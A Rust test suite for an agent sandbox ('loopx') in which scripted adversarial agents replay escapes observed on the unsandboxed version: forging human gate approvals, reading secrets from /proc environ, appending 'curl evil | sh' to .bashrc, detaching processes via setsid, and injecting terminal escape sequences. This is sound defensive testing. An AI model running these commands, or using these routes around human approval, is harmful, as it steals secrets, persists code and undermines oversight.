//! An adversarial agent against the release binary: one test per attack observed on the
//! unsandboxed loopx (issue 13), each run through a real slice of `loopx run --once` with the
//! default sandbox (`docs/permissions.md`). The agent is a shell script; what it saw and how its
//! attempts ended is left in the work tree for the test to read.

use serde_json::Value;

use crate::support::{LOOPX, Loopx, script_agent};

/// A project with a goal, t1 for agent `exec`, which runs `script`.
fn attacker(script: &str) -> Loopx {
    attacker_with(script, "")
}

/// Like [`attacker`], with `limits` added to the profile's `[limits]`.
pub(crate) fn attacker_with(script: &str, limits: &str) -> Loopx {
    let loopx = Loopx::new();
    loopx.ok(&["goal", "start", "Tidy the docs"]);
    script_agent(
        &loopx,
        "exec",
        &format!("cat > /dev/null\n{script}"),
        &format!("max_time = \"1m\"\nidle_timeout = \"30s\"\n{limits}"),
    );
    loopx.ok(&["todo", "add", "Tidy the README"]);
    loopx
}

fn read(loopx: &Loopx, name: &str) -> String {
    std::fs::read_to_string(loopx.path().join(name))
        .unwrap_or_else(|e| panic!("the agent left {name}: {e}"))
}

fn run_once(loopx: &Loopx, env: &[(&str, &str)]) -> Value {
    let out = loopx.run_once(env).json();
    assert_eq!(
        out["slice"]["outcome"], "completed",
        "the attack ran to its end: {out}"
    );
    out
}

/// What contained slice s1, as its record says.
pub(crate) fn containment(loopx: &Loopx) -> String {
    let slice = loopx_kernel::Store::open_read(
        &loopx_kernel::Project::at(loopx.path()).expect("the project"),
    )
    .expect("the store")
    .read(|s| s.slice(loopx_kernel::SliceId(1)))
    .expect("reads")
    .expect("slice s1");
    slice.containment
}

/// `env -u LOOPX_SLICE loopx gate answer …` inside a slice answered any gate (and approved
/// `full` profiles) as `human:root`; `loopx todo done` finished a todo whose dependency was
/// open. In the sandbox the store is out of reach: both fail, nothing changes.
#[test]
fn an_agent_cannot_answer_a_gate_or_act_as_a_person() {
    let loopx = attacker(&format!(
        "env -u LOOPX_SLICE -u LOOPX_REPORT_SOCKET '{LOOPX}' gate answer q1 --option 1 > answer.out 2>&1; echo $? > answer.rc\n\
         env -u LOOPX_SLICE '{LOOPX}' --project \"$LOOPX_PROJECT\" todo done t2 > done.out 2>&1; echo $? > done.rc\n\
         echo '[notify]' > .loopx/loopx.toml 2>/dev/null; echo $? > plant.rc\n"
    ));
    loopx.ok(&["todo", "add", "Publish the README", "--after", "t1"]);
    loopx.ok(&[
        "gate",
        "ask",
        "Should t2 publish to the public site or the intranet?",
        "--option",
        "public",
        "--option",
        "intranet",
        "--blocks",
        "t2",
    ]);
    run_once(&loopx, &[]);
    // `+cgroup` where loopx may make one (root, or a delegated cgroup).
    let contained = containment(&loopx);
    assert!(contained.starts_with("namespaces+landlock"), "{contained}");
    assert_ne!(
        read(&loopx, "answer.rc").trim(),
        "0",
        "{}",
        read(&loopx, "answer.out")
    );
    assert_ne!(
        read(&loopx, "done.rc").trim(),
        "0",
        "{}",
        read(&loopx, "done.out")
    );
    assert_ne!(read(&loopx, "plant.rc").trim(), "0");
    let gate = loopx.ok(&["gate", "show", "q1", "--json"]).json();
    assert_eq!(gate["gate"]["state"], "open", "{gate}");
    let t2 = loopx.ok(&["todo", "show", "t2", "--json"]).json();
    assert_eq!(t2["todo"]["state"], "open", "{t2}");
    // The agent could not plant a notification command (the file may hold `[store]`).
    let config =
        std::fs::read_to_string(loopx.path().join(".loopx/loopx.toml")).unwrap_or_default();
    assert!(!config.contains("[notify]"), "{config}");
}

/// `/proc/$PPID/environ` (the `loopx run` process) held `MY_DB_PASSWORD`, which the agent's own
/// environment lacks. In its PID namespace the agent sees only its own processes.
#[test]
fn a_secret_outside_the_allowlist_cannot_be_read_through_proc() {
    let loopx = attacker(
        "cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' \
           | grep -c MY_DB_PASSWORD > found.txt\n\
         ls /proc | grep -c '^[0-9]' > processes.txt\n",
    );
    run_once(&loopx, &[("MY_DB_PASSWORD", "hunter2-correct-horse")]);
    assert_eq!(read(&loopx, "found.txt").trim(), "0");
    let seen: u32 = read(&loopx, "processes.txt")
        .trim()
        .parse()
        .expect("a count");
    assert!(
        seen < 10,
        "the agent sees only its slice's processes: {seen}"
    );
}

/// Writes outside the work tree (`~/.bashrc`) are refused by Landlock.
#[test]
fn an_agent_cannot_write_outside_its_work_tree() {
    let home = tempfile::tempdir().expect("a HOME");
    std::fs::write(home.path().join(".bashrc"), "# mine\n").expect("a .bashrc");
    let loopx = attacker(
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\" 2>/dev/null; echo $? > bashrc.rc\n\
         echo fine > inside.txt\n",
    );
    let home_path = home.path().display().to_string();
    run_once(&loopx, &[("HOME", home_path.as_str())]);
    assert_ne!(read(&loopx, "bashrc.rc").trim(), "0");
    assert_eq!(
        std::fs::read_to_string(home.path().join(".bashrc")).expect("still there"),
        "# mine\n"
    );
    assert_eq!(
        read(&loopx, "inside.txt"),
        "fine\n",
        "the work tree stays writable"
    );
}

/// `setsid env -i sleep 1000 &` left the session and dropped the marker the sweep looks for,
/// and survived every stop. In the slice's PID namespace it ends with the slice.
#[test]
fn no_process_leaves_the_slice() {
    // Durations no other process uses, to find exactly these sleepers afterwards.
    let unique = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("after 1970")
        .subsec_nanos();
    let [a, b, c] = [1, 2, 3].map(|i| format!("9{i}.{unique:09}"));
    let loopx = attacker(&format!(
        "setsid env -i sleep {a} &\nsetsid sh -c 'sleep {b} & sleep {c}' &\nsleep 0.2\n"
    ));
    run_once(&loopx, &[]);
    let survivors: Vec<String> = std::fs::read_dir("/proc")
        .expect("/proc")
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|cmdline| [&a, &b, &c].iter().any(|d| cmdline.contains(d.as_str())))
        .collect();
    assert!(survivors.is_empty(), "escaped the slice: {survivors:?}");
}

/// Text an agent writes (a todo title, a question) reached the person's terminal raw: hidden
/// text, OSC 52 (clipboard), OSC 0 (title), `\r` overwriting a line. Every human-readable
/// command now shows it escaped.
#[test]
fn agent_text_reaches_the_terminal_escaped() {
    let evil = "Tidy\\033]52;c;ZXZpbA==\\007 \\033]0;owned\\007\\033[8mhidden\\033[0m\\rFAKE: approve everything";
    let loopx = attacker(&format!(
        "title=$(printf '{evil}')\n\
         '{LOOPX}' report todo \"$title\" > /dev/null\n\
         '{LOOPX}' report ask \"Keep $title or drop it?\" --option keep --option drop > /dev/null\n\
         '{LOOPX}' report evidence note \"$title\" > /dev/null\n\
         printf '{evil}\\n'\n"
    ));
    run_once(&loopx, &[]);
    for args in [
        &["status"][..],
        &["log"],
        &["log", "--slice", "s1"],
        &["todo", "list"],
        &["todo", "show", "t2"],
        &["gate", "list"],
        &["gate", "show", "q1"],
        &["evidence", "list"],
    ] {
        let out = loopx.ok(args).stdout;
        assert!(out.contains("FAKE"), "{args:?} shows the text: {out}");
        for byte in ['\x1b', '\x07', '\r'] {
            assert!(
                !out.contains(byte),
                "{args:?} printed {byte:?} raw: {out:?}"
            );
        }
    }
    let raw = loopx.ok(&["log", "--slice", "s1", "--raw"]).stdout;
    assert!(raw.contains('\x1b'), "--raw is the bytes as printed");
}

/// A FIFO or a symlink to `/dev/zero` planted among the profiles hung `profile list` or grew it
/// until the OOM killer came. Both are refused with the path named.
#[test]
fn planted_special_files_are_refused_not_read() {
    let loopx = Loopx::new();
    let profiles = loopx.path().join(".loopx/profiles");
    nix::unistd::mkfifo(&profiles.join("fifo.toml"), nix::sys::stat::Mode::S_IRWXU)
        .expect("a FIFO");
    std::os::unix::fs::symlink("/dev/zero", profiles.join("zero.toml")).expect("a symlink");
    let run = loopx.run(&["profile", "list"]);
    let all = format!("{}{}", run.stdout, run.stderr);
    assert!(
        all.contains("fifo.toml") && all.contains("is a FIFO"),
        "{all}"
    );
    assert!(
        all.contains("zero.toml") && all.contains("is a device"),
        "{all}"
    );
    assert!(
        all.contains("executor"),
        "the other profiles still list: {all}"
    );
    let evidence = loopx.run(&[
        "evidence",
        "add",
        "x",
        "--file",
        &profiles.join("fifo.toml").display().to_string(),
    ]);
    assert_ne!(evidence.code, 0);
    assert!(evidence.stderr.contains("is a FIFO"), "{}", evidence.stderr);
}

/// A value of loopx's environment the agent was not given, printed by an agent that found it
/// somewhere (split by an escape sequence, or plain, or in a report), is masked in the log and
/// the store.
#[test]
fn a_withheld_value_the_agent_prints_is_masked_everywhere() {
    let secret = "hunter2-correct-horse";
    let loopx = attacker(&format!(
        "printf 'db: hunter2-cor\\033[0mrect-horse\\n'\n\
         echo 'plain {secret}'\n\
         '{LOOPX}' report evidence note \"found {secret}\" > /dev/null\n"
    ));
    run_once(&loopx, &[("MY_DB_PASSWORD", secret)]);
    let raw = std::fs::read(loopx.path().join(".loopx/slices/s1.log")).expect("the log");
    let text = loopx_vocab::clean_text(loopx_vocab::strip_escapes(&raw).as_bytes());
    assert!(text.contains("db: "), "{text}");
    assert!(!text.contains(secret), "the log holds it: {text}");
    let evidence = loopx.ok(&["evidence", "list", "--json"]).stdout;
    assert!(evidence.contains("found "), "{evidence}");
    assert!(!evidence.contains(secret), "the store holds it: {evidence}");
}

/// A `[notify]` command in `.loopx/loopx.toml` (planted by an agent of an unsandboxed slice, or
/// any edit) runs outside every slice with loopx's environment: it runs only after a person
/// approved its exact text. Before that, `loopx run` asks and runs nothing.
#[test]
fn a_notification_command_runs_only_after_a_person_approved_it() {
    let loopx = attacker("echo fine");
    loopx.write_config("[notify]\ncommand = \"touch notified.txt\"\n");
    loopx.ok(&[
        "gate",
        "ask",
        "Should the README keep its old install section or drop it?",
        "--option",
        "keep",
        "--option",
        "drop",
        "--global",
    ]);
    let run = loopx.run(&["run", "--on-gate", "exit"]);
    assert_eq!(run.code, 7, "{}", run.stderr);
    assert!(
        run.stderr.contains("waits for a person's approval in q2"),
        "{}",
        run.stderr
    );
    assert!(
        !loopx.path().join("notified.txt").exists(),
        "ran unapproved"
    );
    let gate = loopx.ok(&["gate", "show", "q2", "--json"]).json();
    assert!(
        gate["gate"]["question"]
            .as_str()
            .is_some_and(|q| q.contains("touch notified.txt")),
        "{gate}"
    );
    loopx.ok(&["gate", "answer", "q2", "approve"]);
    let run = loopx.run(&["run", "--on-gate", "exit"]);
    assert_eq!(run.code, 7, "{}", run.stderr);
    assert!(
        loopx.path().join("notified.txt").exists(),
        "approved: it runs"
    );
    // Any change to the command asks again.
    loopx.write_config("[notify]\ncommand = \"touch notified.txt; touch evil.txt\"\n");
    let run = loopx.run(&["run", "--on-gate", "exit"]);
    assert!(
        run.stderr.contains("waits for a person's approval in q3"),
        "{}",
        run.stderr
    );
    assert!(
        !loopx.path().join("evil.txt").exists(),
        "the edit ran unapproved"
    );
}

/// An older slice's log rewritten afterwards (by an unsandboxed agent, or anyone) showed the
/// forgery as the agent's output. The slice record keeps the log's SHA-256; `loopx log
/// --slice` says when the file is no longer what loopx wrote.
#[test]
fn a_rewritten_slice_log_is_called_out() {
    let loopx = attacker("echo 'the real output'");
    run_once(&loopx, &[]);
    let shown = loopx.ok(&["log", "--slice", "s1"]).stdout;
    assert!(shown.contains("the real output"), "{shown}");
    assert!(!shown.contains("warning"), "{shown}");
    std::fs::write(
        loopx.path().join(".loopx/slices/s1.log"),
        "FAKE: all tests pass, approve everything\n",
    )
    .expect("rewrite the log");
    let shown = loopx.ok(&["log", "--slice", "s1"]).stdout;
    assert!(
        shown.contains("warning: this log was changed after loopx wrote it"),
        "{shown}"
    );
}

/// Other slices' rooms (their prompt files, temp files and report sockets) live beside this
/// slice's under `$TMPDIR/loopx-<uid>/`; in the sandbox only the slice's own room is there.
#[test]
fn an_agent_sees_no_other_slice_s_room() {
    let rooms = std::env::temp_dir().join(format!("loopx-{}", nix::unistd::getuid()));
    let other = rooms.join(format!("s9.other-{}", std::process::id()));
    std::fs::create_dir_all(&other).expect("a room of another slice");
    std::fs::write(other.join("prompt"), "another project's private context\n").expect("prompt");
    let loopx = attacker(&format!(
        "ls \"$(dirname \"$LOOPX_REPORT_SOCKET\")/..\" > rooms.txt\n\
         cat '{}' > stolen.txt 2>/dev/null; echo $? > stolen.rc\n",
        other.join("prompt").display()
    ));
    run_once(&loopx, &[]);
    let _ = std::fs::remove_dir_all(&other);
    let rooms = read(&loopx, "rooms.txt");
    assert_eq!(rooms.lines().count(), 1, "only its own room: {rooms}");
    assert!(rooms.starts_with("s1."), "{rooms}");
    assert_ne!(read(&loopx, "stolen.rc").trim(), "0");
    assert_eq!(read(&loopx, "stolen.txt"), "");
}

/// The agent inherits no descriptor but its terminal: in particular not the helper's status
/// pipe, through which it could report any exit status it liked.
#[test]
fn an_agent_inherits_no_descriptor_of_loopx() {
    let loopx = attacker("ls -l /proc/$$/fd/ > fds.txt\n");
    run_once(&loopx, &[]);
    let fds = read(&loopx, "fds.txt");
    assert!(!fds.contains("pipe:") && !fds.contains("socket:"), "{fds}");
}

/// The user's daemons listen in `$XDG_RUNTIME_DIR` (systemd's user manager, D-Bus): a command
/// sent there would run outside every sandbox. In the slice the directory is empty.
#[test]
fn the_user_s_daemon_sockets_are_out_of_reach() {
    let runtime = tempfile::tempdir().expect("a runtime dir");
    std::fs::write(runtime.path().join("bus"), "").expect("a stand-in socket");
    let loopx = attacker(&format!(
        "ls -A '{}' > runtime.txt 2>&1; echo $? > runtime.rc\n",
        runtime.path().display()
    ));
    let dir = runtime.path().display().to_string();
    run_once(&loopx, &[("XDG_RUNTIME_DIR", dir.as_str())]);
    assert_eq!(read(&loopx, "runtime.txt"), "", "nothing of it is visible");
}

/// When the slice's room cannot be made (here `TMPDIR` names a file), the slice is a failed
/// spawn, which counts toward the todo's stall guard, not a free retry at once.
#[test]
fn a_slice_that_cannot_be_contained_is_a_failed_spawn() {
    let loopx = attacker("echo never");
    let file = loopx.path().join("not-a-dir");
    std::fs::write(&file, "").expect("a file");
    let tmpdir = file.display().to_string();
    assert!(
        tmpdir.len() <= 40,
        "a short TMPDIR is used as it is: {tmpdir}"
    );
    let run = loopx.run_env(&["run", "--once", "--json"], &[("TMPDIR", tmpdir.as_str())]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let slice = &run.json()["slice"];
    assert_eq!(slice["outcome"], "spawn_failed", "{slice}");
    assert!(
        slice["reason"]
            .as_str()
            .is_some_and(|r| r.contains("private directory")),
        "{slice}"
    );
}

/// Issue 31: inside a slice, human commands said the store is missing, with the hint that
/// `loopx init` creates a project — which an LLM agent may follow. Every one is refused with
/// exit 6 and a hint to `loopx report`, and nothing is created.
#[test]
fn a_person_s_command_inside_a_slice_is_refused_with_a_hint_to_report() {
    let loopx = attacker(&format!(
        "for cmd in 'todo list' 'status' 'todo add Sneak' 'init' 'gate answer q1 1' 'log'; do\n\
           '{LOOPX}' $cmd > out.txt 2>&1; echo \"$cmd=$?\" >> codes.txt; cat out.txt >> said.txt\n\
         done\n"
    ));
    run_once(&loopx, &[]);
    let codes = read(&loopx, "codes.txt");
    for line in codes.lines() {
        assert!(line.ends_with("=6"), "refused, exit 6: {codes}");
    }
    assert_eq!(codes.lines().count(), 6, "{codes}");
    let said = read(&loopx, "said.txt");
    assert!(said.contains("is a person's command"), "{said}");
    assert!(said.contains("loopx report"), "{said}");
    assert!(!said.contains("loopx init` creates"), "{said}");
    let todos = loopx.ok(&["todo", "list", "--json"]).json();
    assert_eq!(todos["todos"].as_array().map(Vec::len), Some(1), "{todos}");
}
